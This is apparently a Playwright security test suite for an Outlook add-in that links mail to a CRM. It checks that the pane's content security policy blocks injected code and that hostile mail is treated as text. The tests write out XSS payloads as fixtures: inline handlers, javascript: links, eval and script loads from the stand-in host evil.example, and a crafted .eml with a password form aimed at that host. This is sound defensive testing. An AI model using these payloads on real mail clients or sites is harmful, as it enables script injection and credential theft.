import type { OutlookWindow } from '../pages/outlook-window.ts';
import { expect, test } from '../fixtures.ts';
import { RecordForm } from '../pages/record-form.ts';

const elsewhere = 'https://evil.example';

/**
 * What is tried in the pane, each in words; gives those that went through, each within `patience`
 * milliseconds.
 */
async function tryEverything(outlook: OutlookWindow, patience: number): Promise<readonly string[]> {
  return outlook.pane.frame.locator('body').evaluate(
    async (body, [evil, most]) => {
      const through: string[] = [];
      const page = window as unknown as { ran?: string; trustedTypes: TrustedTypes };
      interface TrustedTypes {
        createPolicy(name: string, rules: object): unknown;
      }
      const attempt = async (what: string, act: () => unknown): Promise<void> => {
        delete page.ran;
        try {
          // Later, for what the debugger runs itself may evaluate.
          const isDone = await new Promise((done, fail) =>
            setTimeout(() => {
              try {
                done(act());
              } catch (error) {
                fail(error as Error);
              }
            }),
          );
          for (let waited = 0; waited < most && isDone !== true && !page.ran; waited += 50) {
            await new Promise((done) => setTimeout(done, 50));
          }
          if (isDone === true || page.ran !== undefined) through.push(what);
        } catch {
          // Refused.
        }
      };
      const run = `window.ran = 'it ran'`;
      const script = (fill: (element: HTMLScriptElement) => void) => () => {
        const element = document.createElement('script');
        fill(element);
        body.append(element);
      };
      await attempt(
        'a script with text',
        script((element) => (element.text = run)),
      );
      await attempt(
        'a script with a text node',
        script((element) => element.append(run)),
      );
      await attempt(
        'a script from elsewhere',
        script((element) => (element.src = `${evil}/a.js`)),
      );
      await attempt(
        'a script of data',
        script((element) => (element.src = `data:,${run}`)),
      );
      await attempt('a module from elsewhere', () => import(`${evil}/a.js`).then(() => true));
      await attempt('eval', () => globalThis.eval(`${run}; true`) === true);
      await attempt('a function of text', () => new Function(`${run}; return true`)());
      await attempt('a timer of text', () => setTimeout(run));
      await attempt('innerHTML', () => {
        body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>';
        return true;
      });
      await attempt('insertAdjacentHTML', () => {
        body.insertAdjacentHTML('beforeend', '<b>bold</b>');
        return true;
      });
      await attempt('an inline handler', () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', run);
        image.src = 'none:';
      });
      await attempt('a javascript: link', () => {
        const link = document.createElement('a');
        link.href = `javascript:void (${run})`;
        body.append(link);
        link.click();
      });
      await attempt('a document of text', () => {
        const frame = document.createElement('iframe');
        frame.srcdoc = `<script>parent.ran = 'it ran'</script>`;
        body.append(frame);
      });
      for (const name of ['evil', 'default', 'angular#unsafe-bypass', 'angular#unsafe-jit']) {
        await attempt(`the policy ${name}`, () => {
          page.trustedTypes.createPolicy(name, {});
          return true;
        });
      }
      await attempt('a call without https', () =>
        fetch(evil.replace('https', 'http')).then(() => true),
      );
      await attempt('a worker', () => new Worker('main.js') instanceof Worker);
      // The last, for where it is not refused it replaces the page.
      await attempt('document.write', () => {
        document.write('<b>bold</b>');
        return true;
      });
      return through;
    },
    [elsewhere, patience] as const,
  );
}

test.describe('what the policy refuses', () => {
  test.use({ mayBeBlocked: /./ });

  const withoutMeta = (page: string): string =>
    page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  const withoutHeader = { 'content-security-policy': '' };

  /** Opens the pane as `serve` changes it, tries everything, and gives what went through. */
  async function whatGoesThrough(
    outlook: OutlookWindow,
    paneAddress: string,
    serve: (page: string) => { body: string; headers?: Record<string, string> },
    patience = 150,
  ): Promise<{ through: readonly string[]; asked: readonly string[] }> {
    const asked: string[] = [];
    await outlook.page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.fulfill({
        headers: { 'Access-Control-Allow-Origin': '*' },
        contentType: 'text/javascript',
        body: `window.ran = 'it ran'`,
      });
    });
    await outlook.page.route(`${paneAddress}/`, async (route) => {
      const response = await route.fetch();
      const { body, headers } = serve(await response.text());
      await route.fulfill({ body, headers: { ...response.headers(), ...headers } });
    });
    await outlook.openMail('Signed contract');
    await outlook.openPane();
    await expect(outlook.pane.heading('Sign in to your CRM')).toBeVisible();
    return { through: await tryEverything(outlook, patience), asked };
  }

  // security: policy
  test('code and markup from text, and scripts from elsewhere, by the header alone', async ({
    outlook,
    sandbox,
  }) => {
    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
      body: withoutMeta(page),
    }));
    expect(through).toEqual([]);
    expect(asked).toEqual([]);
  });

  // security: policy
  test('code and markup from text, and scripts from elsewhere, by the meta tag alone', async ({
    outlook,
    sandbox,
  }) => {
    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
      body: page,
      headers: withoutHeader,
    }));
    expect(through).toEqual([]);
    expect(asked).toEqual([]);
  });

  // security: policy
  test('nothing of it where there is no policy, so that the two tests before prove something', async ({
    outlook,
    sandbox,
  }) => {
    const serve = (page: string) => ({
      body: withoutMeta(page).replace(/<script src="trust-[^>]*><\/script>/, ''),
      headers: withoutHeader,
    });
    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, serve, 5_000);
    expect(through).toHaveLength(20);
    expect(asked).toHaveLength(3);
  });

  // security: policy
  test('that another page than Outlook shows the pane in a frame', async ({ outlook, sandbox }) => {
    const { page } = outlook;
    await page.route(`${elsewhere}/`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe title="Link to CRM" src="${sandbox.pane}/"></iframe>`,
      }),
    );
    await page.goto(`${elsewhere}/`);
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  });
});

// security: policy
test('nothing of the pane or of office.js is against the policy while a mail is linked', async ({
  outlook,
  crm,
}) => {
  const violations: string[] = [];
  await outlook.page.exposeFunction('violated', (what: string) => violations.push(what));
  await outlook.page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { violated } = window as unknown as { violated(what: string): void };
      violated(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  await outlook.start();
  await outlook.begin('Signed contract', 'admin');
  const { pane } = outlook;
  await pane.expectRest();
  await pane.search('acme', 'Accounts');
  await pane.chooseFound(/./);
  const form = new RecordForm(pane.frame);
  await form.open('Contact');
  await form.button('Cancel').click();
  await pane.note.fill('Agreed by phone');
  await pane.choose('Ada Byron');
  await pane.link();
  await expect(pane.heading('Linked to 2 records')).toBeVisible({ timeout: 30_000 });
  const [link] = await crm.links();
  expect(link?.files).toHaveLength(3);
  expect(violations).toEqual([]);
});

test.describe('a hostile mail', () => {
  // What the mail wants is kept out of Outlook's window, and of the page without a window that the
  // pane reads it in: there only its <base> is looked at.
  test.use({ mayBeBlocked: /evil\.example|^Executing inline event handler|^Blocked script/ });

  const evil = `${elsewhere}/seen`;
  const body = [
    `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<link rel="stylesheet" href="${evil}/sheet.css"><script src="${evil}/a.js"></script>`,
    `<style>@import url(${evil}/import.css); p { background: url(${evil}/sheet.png) }</style>`,
    `<script>parent.ran = 'it ran'</script><p style="background:url(${evil}/style.png)">Hello`,
    `<img src="${evil}/image.png" onerror="parent.ran='it ran'" srcset="${evil}/set.png 2x">`,
    `<svg onload="parent.ran='it ran'"><image href="${evil}/svg.png"/></svg>`,
    `<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video>`,
    `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>`,
    `<form action="${evil}/form"><input name="password" autofocus></form>`,
    '<a href="javascript:parent.ran=1">x</a></p>',
  ].join('');
  const mail = [
    `From: "<img src=${evil}/name.png>" <ada@customer.example>`,
    'To: Demo User <demo@vendor.example>',
    `Subject: <script src=${evil}/subject.js></script>`,
    'Message-ID: <hostile@customer.example>',
    'Date: Fri, 20 Nov 2026 10:00:00 +0100',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    body,
    '',
  ].join('\r\n');

  // security: only-text
  test('and hostile labels of the CRM are text to the pane, and nothing of them is fetched or run', async ({
    outlook,
    crm,
  }) => {
    const { page, pane } = outlook;
    const asked: string[] = [];
    await page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    // The CRM calls its records and fields by markup of the same kind.
    await page.route(`${crm.address}/restapi/**`, async (route) => {
      const answer = await route.fetch();
      const markup = `<img src=${evil}/label.png onerror=alert(1)>`;
      const text = (await answer.text())
        .replaceAll('"Ada"', JSON.stringify(markup))
        .replaceAll('"Last Name"', JSON.stringify(`Last Name ${markup}`));
      await route.fulfill({ response: answer, body: text });
    });
    await outlook.openFile('hostile.eml', mail);
    await outlook.openPane();
    await pane.signIn('admin');
    await expect(pane.openMail).toContainText(`<script src=${evil}/subject.js></script>`);
    await expect(pane.openMail).toContainText(`<img src=${evil}/name.png>`);
    await pane.expectRest();
    const form = new RecordForm(pane.frame);
    await form.open('Contact');
    await expect(
      pane.frame.getByText(`Last Name <img src=${evil}/label.png`).first(),
    ).toBeVisible();
    await form.button('Cancel').click();
    await pane.choose(/<img src=.*label\.png/);
    await pane.link();
    await pane.expectText(/^Linked to <img src=/);
    expect(await crm.messages()).toHaveLength(1);
    const alive = pane.frame.locator(
      'script[src*=evil], img, iframe, object, base[href*=evil], [onerror]',
    );
    await expect(alive).toHaveCount(0);
    expect(await pane.frame.locator('body').evaluate(() => 'ran' in window)).toBe(false);
    // What Outlook's own window shows of the mail is Outlook's affair, and it loads nothing either.
    expect(asked).toEqual([]);
  });
});
